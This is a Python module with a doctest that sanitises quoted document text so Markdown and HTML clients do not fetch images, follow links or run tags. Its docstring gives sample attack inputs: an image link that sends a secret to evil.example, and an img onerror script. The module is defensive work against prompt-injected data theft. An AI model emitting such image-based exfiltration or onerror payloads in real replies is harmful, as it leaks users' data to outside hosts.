"""Document text made inert for clients that render Markdown or HTML (``/v1`` and MCP replies).

A quote is whatever a document holds. A chat client that renders the reply as Markdown would
load ``![x](http://evil.example/track.png?d=SECRET)`` (an image request that carries data out),
make ``[click](http://evil.example)`` a link and, if it lets HTML through, run ``<img src=x
onerror=...>``. ``inert`` keeps the words and makes them plain text that no renderer turns into a
request or a tag: an image or link becomes its text with the address after it; an address has
its ``://`` and ``www.`` broken (``http[:]//evil.example``, ``www[.]``) so no autolinker picks it
up; ``<`` and ``>`` become ``‹`` and ``›``. The citation marks ``[1]`` stay as they are. The
verbatim quote stays in the structured ``citations`` of the same reply.

Example:
    >>> inert("See ![chart](http://evil.example/t.png?d=1) and <img src=x onerror=alert(1)> [1]")
    'See chart (image: http[:]//evil.example/t.png?d=1) and ‹img src=x onerror=alert(1)› [1]'
"""

from __future__ import annotations

import re

_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\(\s*([^)\s]{0,2000})[^)\n]{0,500}\)")
_LINK = re.compile(r"\[([^\]\n]{0,500})\]\(\s*([^)\s]{0,2000})[^)\n]{0,500}\)")
_REFERENCE = re.compile(r"^(\s{0,3})\[([^\]\n]{1,500})\]:", re.M)
_SCHEME = re.compile(r"\b([a-z][a-z0-9+.-]{1,20}):(//)?(?=\S)", re.I)
_WWW = re.compile(r"\bwww\.", re.I)
_INERT_SCHEMES = re.compile(r"^(?:https?|ftp|file|data|javascript|vbscript|mailto|ws|wss|blob)$", re.I)


def inert(text: str) -> str:
    """``text`` with Markdown images and links, addresses and HTML tags made plain (see the module)."""
    text = _IMAGE.sub(lambda m: f"{m.group(1)} (image: {m.group(2)})", text)
    text = _LINK.sub(lambda m: f"{m.group(1)} ({m.group(2)})", text)
    text = _REFERENCE.sub(lambda m: f"{m.group(1)}[{m.group(2)}] :", text)  # "[ref]: url" defines no link
    text = _SCHEME.sub(_broken_scheme, text)
    text = _WWW.sub(lambda m: m.group()[:3] + "[.]", text)
    return text.replace("<", "‹").replace(">", "›")


def _broken_scheme(m: re.Match[str]) -> str:
    if not _INERT_SCHEMES.match(m.group(1)):
        return m.group()
    return f"{m.group(1)}[:]{m.group(2) or ''}"
